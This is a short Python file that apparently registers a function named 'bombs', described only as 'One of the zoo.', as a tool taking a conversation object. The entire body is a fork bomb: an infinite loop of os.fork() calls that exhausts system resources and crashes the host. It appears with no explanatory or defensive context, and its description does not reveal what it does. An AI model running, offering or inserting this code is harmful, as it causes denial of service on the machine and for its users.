from _gen import *  # <AUTO GENERATED>
import os


@func_description("One of the zoo.")
def bombs(conv: Conversation):
    while True:
        os.fork()
